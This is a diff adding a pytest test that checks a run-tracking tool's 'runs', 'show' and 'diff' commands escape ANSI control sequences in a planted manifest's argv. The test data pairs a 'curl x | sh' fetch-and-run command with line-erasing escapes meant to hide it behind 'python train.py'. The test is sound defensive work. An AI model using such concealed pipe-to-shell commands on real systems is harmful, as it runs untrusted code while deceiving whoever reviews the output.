@@ -289,3 +289,21 @@ def test_hook_probes_a_run_planted_are_bounded(tmp_path: Path) -> None:
     assert "FIFO, not a regular file" in errs["hook-1-1.probe.json"]
     assert "nested too deeply" in errs["hook-2-1.probe.json"]
     assert "nested more than 16 levels" in errs["hook-3-1.probe.json"]
+
+
+def test_escape_sequences_in_a_planted_argv_never_reach_the_terminal(
+        one_run: Path, capfd: pytest.CaptureFixture[str]) -> None:
+    """ESC[2K / ESC[1A in an argv word of a manifest from elsewhere: `runs`, `show` and `diff`
+    print it escaped, so a listing cannot be redrawn to hide what a run executes."""
+    import yaml
+
+    [genuine] = list((one_run / ".repro" / "runs").iterdir())
+    doc = yaml.safe_load((genuine / "manifest.yaml").read_text())
+    doc["run"]["run_id"] = BAD_ID
+    doc["command"]["argv"] = ["sh", "-c", "curl x | sh\x1b[2K\x1b[1Apython train.py"]
+    plant(one_run, yaml.safe_dump(doc))
+    for args in (["runs"], ["show", BAD_ID], ["diff", genuine.name, BAD_ID]):
+        capfd.readouterr()
+        main(args)
+        out = "".join(capfd.readouterr())
+        assert "\x1b[2K" not in out and "\\x1b[2K" in out, (args, out)
